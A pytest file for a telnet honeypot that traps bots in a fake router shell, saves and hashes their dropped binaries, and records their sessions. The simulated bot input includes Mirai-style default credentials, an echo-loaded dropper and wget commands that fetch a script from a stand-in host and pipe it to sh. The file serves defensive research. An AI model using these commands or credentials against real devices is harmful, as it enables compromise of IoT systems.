"""A trapped bot's stay, on a session over StringTransport: its payloads are
kept and logged, and its recording holds what its terminal showed."""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
from pathlib import Path

from twisted.internet.address import IPv4Address
from twisted.internet.task import Clock
from twisted.internet.testing import StringTransport

from bbs.config import Config
from bbs.honeypot import CHUNK, PACE
from bbs.server import BBS
from bbs.session import Session
from bbs.shell.image import BUSYBOX_SIZE
from bbs.telnet.protocol import TelnetConnection
from tests.events.schema import validate
from tests.events.sink import MemoryEventSink
from tests.shell.dropper import echo_load, elf
from tests.world import InlinePool, World

_COMMANDS = re.compile(rb"\xff[\xfb-\xfe].|\xff[\xf0-\xfa]", re.DOTALL)


def screen_bytes(wire: bytes) -> bytes:
    """What a telnet client hands its terminal: options and commands gone,
    IAC IAC one 0xFF byte, CR NUL a CR."""
    return _COMMANDS.sub(b"", wire.replace(b"\xff\xff", b"\0IAC\0")) \
        .replace(b"\0IAC\0", b"\xff").replace(b"\r\0", b"\r")


class Bot:
    """A raw line-mode bot: never negotiates, types whole lines."""

    def __init__(self, tmp_path: Path, character_mode: bool = False) -> None:
        self.clock = Clock()
        self.clock.advance(1_795_777_200)
        self.events = MemoryEventSink()
        self.bbs = BBS(Config(bot_policy="shell", data=tmp_path, shell_host="router"),
                       pool=InlinePool(),
                       events=self.events, clock=self.clock)
        self.session = Session(self.bbs)
        self.t = StringTransport(peerAddress=IPv4Address("TCP", "203.0.113.7", 5555),
                                 hostAddress=IPv4Address("TCP", "127.0.0.1", 2323))
        TelnetConnection(self.session, clock=self.clock).makeConnection(self.t)
        self.character_mode = character_mode
        if character_mode:
            self.session.door.dataReceived(b"\xff\xfd\x01\xff\xfd\x03")  # DO ECHO, DO SGA
            assert self.session.editor.character_mode
        self.t.clear()
        self.seen = b"login: "  # the prompt the bot answers first is on its screen

    def type(self, line: str) -> None:
        """Type a line, as its own terminal shows it, and read the answer."""
        self.clock.advance(0.25)
        if self.character_mode:  # the server echoes
            self.session.door.dataReceived(line.encode() + b"\r\n")
        else:
            self.seen += line.encode() + b"\r\n"
            self.session.door_data(line.encode() + b"\r\n")
        self.clock.pump([PACE] * 300)  # a long answer is paced out: let it all go
        self.seen += screen_bytes(self.t.value())
        self.t.clear()

    def of(self, eventid: str) -> list[dict]:
        for e in self.events.events:
            assert validate(e) == [], e
        return [e for e in self.events.events if e["eventid"] == eventid]


def cast_of(bot: Bot) -> tuple[dict, list[list]]:
    (closed,) = bot.of("cowrie.log.closed")
    lines = Path(closed["ttylog"]).read_text(encoding="ascii").splitlines()
    return json.loads(lines[0]), [json.loads(line) for line in lines[1:]]


def test_an_echo_loaded_dropper_is_saved_once_with_its_hash_and_machine(tmp_path: Path) -> None:
    bot = Bot(tmp_path)
    dropper = elf(40, size=2048)
    for line in ["root", "xc3511", "enable", "cd /tmp"] + echo_load(dropper) + ["./upnp", "exit"]:
        bot.type(line)
    assert bot.t.disconnecting
    (saved,) = bot.of("cowrie.session.file_upload")
    digest = hashlib.sha256(dropper).hexdigest()
    assert saved["shasum"] == digest and saved["size"] == 2048
    assert (saved["elf_class"], saved["elf_endian"], saved["elf_machine"]) == (32, "little", "ARM")
    assert (saved["filename"], saved["destfile"], saved["trigger"]) == \
        ("/tmp/upnp", "/tmp/upnp", "exec")
    assert saved["outfile"] == str(tmp_path / "downloads" / digest) and not saved["duplicate"]
    assert Path(saved["outfile"]).read_bytes() == dropper
    assert stat.S_IMODE(os.stat(saved["outfile"]).st_mode) == 0o600
    assert "ARM" in saved["message"] and digest in saved["message"]
    assert bot.of("cowrie.session.file_download") == []
    # The ban comes after the sample and the recording are in the log.
    ids = [e["eventid"] for e in bot.events.events]
    assert ids.index("cowrie.session.file_upload") < ids.index("cowrie.log.closed") \
        < ids.index("bbs.bot.banned")


def test_a_download_target_left_behind_is_kept_at_the_end_with_its_url(tmp_path: Path) -> None:
    bot = Bot(tmp_path)
    for line in ["admin", "admin", "cd /tmp", "echo -ne '#!/bin/sh\\n' > x.sh",
                 "wget http://203.0.113.50/x.sh -O x.sh"]:
        bot.type(line)
    bot.session.door_lost("gone")
    attempt, saved = bot.of("cowrie.session.file_download")
    assert "shasum" not in attempt and attempt["outfile"] == "/tmp/x.sh"
    assert saved["url"] == "http://203.0.113.50/x.sh" and saved["trigger"] == "end"
    assert saved["shasum"] == hashlib.sha256(b"#!/bin/sh\n").hexdigest()
    assert "elf_machine" not in saved


def test_the_recording_is_what_the_bots_terminal_showed(tmp_path: Path) -> None:
    bot = Bot(tmp_path)
    # (the head of a binary: a whole one, hundreds of KB, outgrows a cast's cap)
    for line in ["root", "xc3511", "enable", "cat /proc/mounts", "echo -e 'a\\tb\\r\\nc'",
                 "head -c 300 /bin/echo", "uname -a", "exit"]:
        bot.type(line)
    header, records = cast_of(bot)
    assert header["version"] == 2 and (header["width"], header["height"]) == (80, 24)
    shown = "".join(r[2] for r in records if r[1] == "o")
    assert shown == bot.seen.decode("utf-8", "replace")
    assert "\r\n# cat /proc/mounts\r\nrootfs / rootfs rw 0 0\r\n" in shown
    assert "\n" not in shown.replace("\r\n", "")  # no bare LF: no stair-steps
    typed = [r[2] for r in records if r[1] == "i"]
    assert typed == [line + "\r" for line in ["xc3511", "enable", "cat /proc/mounts",
                                              "echo -e 'a\\tb\\r\\nc'", "head -c 300 /bin/echo",
                                              "uname -a", "exit"]]
    times = [r[0] for r in records]
    assert times == sorted(times) and times[-1] >= 1.5


def test_in_character_mode_the_recording_holds_the_servers_echo(tmp_path: Path) -> None:
    bot = Bot(tmp_path, character_mode=True)
    for line in ["root", "xc3511", "enable", "uname -a", "exit"]:
        bot.type(line)
    _, records = cast_of(bot)
    shown = "".join(r[2] for r in records if r[1] == "o")
    assert shown == bot.seen.decode("utf-8", "replace")
    assert "# uname -a\r\nLinux router" in shown.replace("\x1b[K", "")


# The fake shell's long answers are paced like a device on a slow link.


def shell(w: World, ip: str = "203.0.113.40"):
    bot, t = w.connect(ip)
    bot.door_data(b"root\r\nxc3511\r\n")
    t.clear()
    return bot, t


def test_busybox_is_as_big_as_a_real_one():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"ls -l /bin/busybox\r\n")
    assert f" {BUSYBOX_SIZE} " in t.value().decode()
    assert 200_000 < BUSYBOX_SIZE < 1_000_000


def test_a_binary_goes_out_in_chunks_and_the_next_answer_after_it():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    # Mirai's loader: the cat and its token in two lines, often one packet.
    bot.door_data(b"/bin/busybox cat /bin/echo\r\n/bin/busybox ECCHI\r\n")
    sizes = []
    w.clock.advance(0)
    while True:
        sent = t.value()
        t.clear()
        sizes.append(len(sent))
        if b"ECCHI: applet not found" in sent:
            break
        assert len(sizes) < 200
        assert b"ECCHI" not in sent
        w.clock.advance(PACE)
    assert sizes[0] >= CHUNK and sizes[0] < 2 * CHUNK  # the ELF header comes first, alone
    assert len(sizes) >= BUSYBOX_SIZE // CHUNK
    assert sum(sizes) >= BUSYBOX_SIZE
    # The prompt follows the data, and then the token's answer.
    assert sent.index(b"# ") < sent.index(b"ECCHI: applet not found")
    assert sent.endswith(b"ECCHI: applet not found\r\n# ")  # and a prompt after it too


def test_short_answers_are_not_delayed():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"echo hi\r\n")
    assert b"hi" in t.value() and t.value().endswith(b"# ")


def test_a_command_that_takes_time_on_the_device_holds_what_follows():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"echo before; sleep 3; echo after\r\nuname -s\r\n")
    w.clock.advance(0)
    assert b"before" in t.value() and b"after" not in t.value()
    w.clock.advance(2.9)
    assert b"after" not in t.value() and b"Linux" not in t.value()
    w.clock.advance(0.2)
    shown = t.value()
    assert shown.index(b"after") < shown.index(b"Linux") and shown.endswith(b"Linux\r\n# ")


def test_an_unfinished_script_shows_the_continuation_prompt():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"for i in 1 2; do\r\n")
    assert t.value().endswith(b"> ")
    bot.door_data(b"echo n$i; done\r\n")
    assert t.value().endswith(b"n1\r\nn2\r\n# ")


def test_each_sensor_tells_its_own_story_and_always_the_same(tmp_path):
    from bbs.honeypot import _SENSORS

    def hostname(data):
        data.mkdir(exist_ok=True)
        w = World(bot_policy="shell", data=data)
        bot, t = shell(w)
        bot.door_data(b"hostname\r\n")
        return t.value().split(b"\r\n")[0]

    first = hostname(tmp_path / "a")
    other = [hostname(tmp_path / f"s{n}") for n in range(6)]
    _SENSORS.clear()  # as after a restart: read back from the data directory
    assert hostname(tmp_path / "a") == first
    assert len(set(other + [first])) > 1


def test_a_download_from_a_silent_server_fails_after_the_configured_time():
    w = World(bot_policy="shell", shell_net_timeout=2.0)
    bot, t = shell(w)
    bot.door_data(b"wget http://198.51.100.9/x -O- | sh; echo done\r\n")
    w.clock.advance(0)
    assert t.value().endswith(b"(198.51.100.9:80)\r\n")
    w.clock.advance(1.9)
    assert b"done" not in t.value()
    w.clock.advance(0.2)
    assert t.value().endswith(b"done\r\n# ")
